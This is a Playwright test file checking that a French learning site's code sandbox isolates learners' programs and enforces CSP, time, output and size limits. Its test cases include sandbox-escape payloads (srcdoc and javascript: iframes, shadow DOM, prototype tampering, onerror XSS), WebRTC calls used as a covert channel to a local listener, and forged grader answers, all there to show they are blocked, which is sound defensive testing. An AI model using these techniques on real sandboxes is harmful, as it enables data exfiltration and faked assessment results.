"""Learners' programs: in a frame without an origin, bound to the page that framed it, and within limits."""

from __future__ import annotations

import socket
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Frame, Locator, Page, expect
from quizzes import question, says
from watching import Watch

from static_server import StaticServer, serve

CODER = "guide-auteur/questions/coder/"
PAGES = ("sandbox", "python")
REFUSED = "Cette page exécute les programmes des exercices, dans un cadre isolé."
SPY = """(() => { try { return localStorage.length + ' records' } catch (e) { return e.name } })()"""
HAND_OVER = """(frame, code) => new Promise((done) => {
  const { port1, port2 } = new MessageChannel();
  port1.onmessage = ({ data }) => data === "begun" || done(data);
  frame.postMessage({ language: "html", code, tests: ["true"] }, "*", [port2]);
})"""
# what was posted before has been heard by then
HEARD = """() => new Promise((done) => {
  addEventListener("message", ({ data }) => data === "end" && done());
  postMessage("end", "*");
})"""


def address_of(site: Path, name: str) -> str:
    """The page that runs programs; its name carries its digest."""
    (path,) = (site / "assets/tremplin/code").glob(f"{name}.*.htm")
    return path.relative_to(site).as_posix()


def run(form: Locator, code: str) -> None:
    form.get_by_role("textbox").fill(code)
    form.get_by_role("button", name="Exécuter").press("Enter")


def is_ready(form: Locator) -> None:
    expect(form.get_by_role("button", name="Exécuter")).to_be_enabled(timeout=20_000)


def opened(page: Page, site: StaticServer, id_: str) -> Locator:
    page.goto(site.url(CODER))
    form = question(page, id_)
    expect(form.locator(".run")).to_be_visible()
    return form


# ---- who may run programs


@pytest.fixture
def stranger(tmp_path: Path) -> Iterator[StaticServer]:
    """Another site."""
    (tmp_path / "index.html").write_text(
        "<!doctype html><link rel=icon href=data:,><title>Ailleurs</title><body>", encoding="utf-8"
    )
    with serve(tmp_path) as server:
        yield server


def framed(page: Page, address: str, sandbox: str | None) -> Frame:
    """The frame of `address` in the page."""
    page.evaluate(
        """([address, sandbox]) => new Promise((done) => {
          const frame = document.createElement("iframe");
          if (sandbox !== null) frame.sandbox = sandbox;
          frame.onload = done;
          frame.src = address;
          document.body.append(frame);
        })""",
        [address, sandbox],
    )
    return page.frames[-1]


def refuses(page: Page, frame: Frame) -> None:
    """Whatever the page hands over, nothing runs."""
    page.evaluate(f"void ({HAND_OVER})(frames[frames.length - 1], '<i>run</i>')")
    page.evaluate(
        "frames[frames.length - 1].postMessage({language: 'html', code: '<i>run</i>', tests: []}, '*')"
    )
    frame.evaluate(HEARD)
    assert frame.inner_text("body").strip() == REFUSED
    assert frame.locator("i").count() == 0


@pytest.mark.parametrize("sandbox", [None, "allow-scripts allow-same-origin"])
@pytest.mark.parametrize("name", PAGES)
def test_a_page_that_has_the_site_as_its_origin_runs_nothing(
    page: Page, site: StaticServer, stranger: StaticServer, name: str, sandbox: str | None, site_folder: Path
) -> None:
    page.goto(stranger.url())
    refuses(page, framed(page, site.url(address_of(site_folder, name)), sandbox))


def test_another_site_that_isolates_it_learns_nothing(
    page: Page, site: StaticServer, stranger: StaticServer, site_folder: Path
) -> None:
    page.goto(stranger.url())
    frame = framed(page, site.url(address_of(site_folder, "sandbox")), "allow-scripts")
    told = page.evaluate(f"({HAND_OVER})(frames[0], '<i>run</i>')")
    assert (told["out"], told["results"]) == ([], [True])
    assert frame.evaluate(SPY) == "SecurityError"


@pytest.mark.parametrize("name", PAGES)
def test_opened_by_itself_it_runs_nothing(
    page: Page, site: StaticServer, name: str, site_folder: Path
) -> None:
    page.goto(site.url(address_of(site_folder, name)))
    page.evaluate("postMessage({language: 'html', code: '<i>run</i>', tests: []}, '*')")
    page.evaluate(f"void ({HAND_OVER})(self, '<i>run</i>')")
    page.evaluate(HEARD)
    assert page.inner_text("body").strip() == REFUSED


@pytest.mark.parametrize("name", PAGES)
def test_on_a_disk_it_is_isolated_or_runs_nothing(page: Page, site_folder: Path, name: str) -> None:
    """There, the origin of every page is « null », and they share their storage."""
    address = (site_folder / address_of(site_folder, name)).as_uri()
    page.goto(address)
    assert page.inner_text("body").strip() == REFUSED
    page.goto((site_folder / "aide/index.html").as_uri())
    refuses(page, framed(page, address, None))
    frame = framed(page, address, "allow-scripts")
    assert page.evaluate(f"({HAND_OVER})(frames[1], '<i>run</i>')")["results"] == [True]
    assert frame.evaluate(SPY) == "SecurityError"


def test_a_program_from_a_stranger_frame_is_not_heard(
    page: Page, site: StaticServer, stranger: StaticServer, site_folder: Path
) -> None:
    page.goto(stranger.url())
    frame = framed(page, site.url(address_of(site_folder, "sandbox")), "allow-scripts")
    other = framed(page, stranger.url(), "allow-scripts")
    other.evaluate(f"void ({HAND_OVER})(parent.frames[0], '<i>strange</i>')")
    frame.evaluate(f"void ({HAND_OVER})(self, '<i>own</i>')")
    frame.evaluate(HEARD)
    assert frame.locator("i").count() == 0
    page.evaluate(f"({HAND_OVER})(frames[0], '<i>run</i>')")
    expect(frame.locator("i")).to_have_text("run")


def test_a_frame_takes_one_program(
    page: Page, site: StaticServer, stranger: StaticServer, site_folder: Path
) -> None:
    page.goto(stranger.url())
    frame = framed(page, site.url(address_of(site_folder, "sandbox")), "allow-scripts")
    page.evaluate(f"({HAND_OVER})(frames[0], '<i>run</i>')")
    page.evaluate(f"void ({HAND_OVER})(frames[0], '<i>again</i>')")
    frame.evaluate(HEARD)
    expect(frame.locator("i")).to_have_text("run")


# ---- what a program can do


@pytest.fixture
def ear() -> Iterator[Callable[[], socket.socket]]:
    """Places where packets are heard."""
    made = []

    def listen() -> socket.socket:
        heard = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        heard.bind(("127.0.0.1", 0))
        made.append(heard)
        return heard

    yield listen
    for heard in made:
        heard.close()


def calling(heard: socket.socket) -> str:
    return (
        "(async () => { const p = new RTCPeerConnection({iceServers: "
        f"[{{urls: 'stun:127.0.0.1:{heard.getsockname()[1]}'}}]}}); p.createDataChannel('x');"
        "await p.setLocalDescription(await p.createOffer()) })()"
    )


WAYS = {
    "by itself": "CALL",
    "a frame with its page": "f.srcdoc = '<scr' + 'ipt>CALL</scr' + 'ipt>'; document.body.append(f)",
    "a frame with an address": "f.src = 'javascript:CALL'; document.body.append(f)",
    "a frame in a text": "document.querySelector('i').innerHTML = "
    "'<iframe srcdoc=\"&lt;script>CALL&lt;/script>\">'",
    "a frame in the shade": "f.src = 'javascript:CALL';"
    "document.querySelector('p').attachShadow({mode: 'closed'}).append(f)",
    "a frame in a written shade": "document.write('<p><template shadowrootmode=open>"
    '<iframe srcdoc="&lt;script>CALL&lt;/script>"></iframe></template></p>\')',
    "a frame in an unsafe shade": "document.body.setHTMLUnsafe('<p><template shadowrootmode=open>"
    '<iframe srcdoc="&lt;script>CALL&lt;/script>"></iframe></template></p>\')',
    "the browser's tools replaced": "document.querySelectorAll = Element.prototype.remove = () => [];"
    "NodeList.prototype.forEach = () => {}; f.src = 'javascript:CALL'; document.body.append(f)",
}


@pytest.mark.sweep(every=3)
@pytest.mark.parametrize("way", WAYS)
def test_a_program_calls_no_other_browser(
    page: Page,
    new_context: Callable[..., BrowserContext],
    site: StaticServer,
    ear: Callable[[], socket.socket],
    watch: Watch,
    way: str,
) -> None:
    watch.expect("Content Security Policy|RTCPeerConnection is not defined")
    form = opened(page, site, "page")
    heard, control = ear(), ear()
    attack = WAYS[way].replace("CALL", calling(heard).replace("'", "`"))
    attack = f"const f = document.createElement('iframe'); try {{ {attack} }} catch {{}}"
    code = attack.replace("&", "&amp;").replace('"', "&quot;")
    run(form, f'<p>Avant</p><i></i><img src=x onerror="{code}; requestAnimationFrame(() => this.alt = 1)">')
    frame = form.frame_locator("iframe")
    expect(frame.locator("body:not(:has(img)), img[alt='1']")).to_be_attached()
    assert [f for f in page.frames if f.parent_frame and f.parent_frame.parent_frame] == []
    # one that may call is heard, and that one was not
    free = new_context().new_page()
    free.goto(site.url("404.html"))
    free.evaluate(calling(control))
    control.settimeout(10)
    assert control.recv(2000)
    heard.setblocking(False)
    with pytest.raises(BlockingIOError):
        heard.recv(2000)


def test_a_program_leads_its_frame_to_no_other_site(
    page: Page, site: StaticServer, stranger: StaticServer, watch: Watch
) -> None:
    watch.expect("Content Security Policy|chrome-error")
    form = opened(page, site, "page")
    with page.expect_console_message(lambda m: "frame-src" in m.text):
        run(form, f"<img src=x onerror=\"location = '{stranger.url('?secret')}'\">")
    assert stranger.answers == []
    is_ready(form)


FORGED = {
    "an answer": "postMessage({ out: [], results: [true, true] })",
    "an answer of its own": "self.postMessage({ results: [true, true] })",
    "an answer by the prototype": "DedicatedWorkerGlobalScope.prototype.postMessage"
    ".call(self, { results: [true, true] })",
    "nothing": "self.postMessage(null)",
    "the list of verdicts": "Array.prototype.map = () => [() => true, () => true]; nope()",
    "an error that cannot be told": "throw { toString() { throw 1 } }",
    "an error that is another thing": "throw Symbol('x')",
}


@pytest.mark.sweep(every=3)
@pytest.mark.parametrize("way", FORGED)
def test_a_forged_answer_leaves_the_page_usable(page: Page, site: StaticServer, way: str) -> None:
    form = opened(page, site, "fonction")
    run(form, FORGED[way])
    is_ready(form)
    says(form, "Ce n’est pas la bonne réponse.")
    run(form, "function prix(n) { return n * 2; }")
    says(form, "Juste !")


ENDLESS = {
    "fonction": ("close(); for (;;);", "Le programme ne s’arrête pas"),
    "boucle": ("while True:\n    pass", "Le programme ne s’arrête pas"),
}


@pytest.mark.parametrize("id_", ENDLESS)
def test_a_program_without_an_answer_is_stopped(page: Page, site: StaticServer, id_: str) -> None:
    code, words = ENDLESS[id_]
    form = opened(page, site, id_)
    run(form, code)
    expect(form.locator("[data-out]")).to_contain_text(words)
    is_ready(form)


@pytest.mark.parametrize(
    ("id_", "code"),
    [("fonction", "for (;;) console.log('x'.repeat(999))"), ("boucle", "while True:\n    print('x')")],
)
def test_a_program_that_prints_for_ever_is_stopped(
    page: Page, site: StaticServer, id_: str, code: str
) -> None:
    form = opened(page, site, id_)
    run(form, code)
    expect(form.locator("[data-out]")).to_contain_text("Le programme écrit trop")
    assert len(form.locator("[data-out]").inner_text()) < 150_000
    is_ready(form)


@pytest.mark.parametrize("id_", ["page", "fonction"])
def test_a_program_has_a_size(page: Page, site: StaticServer, id_: str) -> None:
    form = opened(page, site, id_)
    run(form, "x" * 100_001)
    expect(form.locator("[data-out]")).to_have_text("Ce programme est trop long : raccourcissez-le.")
    is_ready(form)
    run(form, "<h1>Bonjour</h1><p>" if id_ == "page" else "const prix = (n) => n * 2")
    says(form, "Juste !")


def test_one_run_leaves_nothing_to_the_next(page: Page, site: StaticServer, watch: Watch) -> None:
    watch.expect("Content Security Policy")
    form = opened(page, site, "page")
    spoil = "Document.prototype.querySelector = () => ({}); self.Function = () => () => 1;"
    run(form, f'<img src=x onerror="{spoil} this.alt = 1">')
    expect(form.frame_locator("iframe").locator("img[alt='1']")).to_be_attached()
    says(form, "Ce n’est pas la bonne réponse.")
    run(form, "<h2>Bonjour</h2>")
    says(form, "Ce n’est pas la bonne réponse.")


def test_a_page_that_never_rests_leaves_the_lesson_usable(
    page: Page, site: StaticServer, watch: Watch
) -> None:
    """Where the browser gives such a frame a process of its own, as this one does."""
    watch.expect("Content Security Policy")
    form = opened(page, site, "page")
    run(form, '<h1>Bonjour</h1><img src=x onerror="for (;;);">')
    is_ready(form)
    run(form, "<h1>Bonjour</h1><p>Suite</p>")
    says(form, "Juste !")
